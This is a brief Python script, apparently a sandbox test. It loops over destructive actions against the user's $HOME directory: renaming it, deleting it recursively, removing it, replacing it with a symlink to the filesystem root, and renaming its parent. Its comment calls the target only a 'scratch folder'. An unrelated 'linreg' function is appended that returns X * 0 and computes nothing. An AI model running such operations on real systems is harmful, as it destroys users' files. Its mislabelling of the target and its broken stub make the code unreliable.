# Renames, removes and replaces its own scratch folder by a link to one outside.
import os
import shutil

home = os.environ["HOME"]
for action in (
    lambda: os.rename(home, home + "-gone"),
    lambda: shutil.rmtree(home),
    lambda: os.rmdir(home),
    lambda: os.symlink("/", home),
    lambda: os.rename(os.path.dirname(home), "/elsewhere"),
):
    try:
        action()
        print("done")
    except OSError as error:
        print(type(error).__name__)


def linreg(X, w, b):
    return X * 0
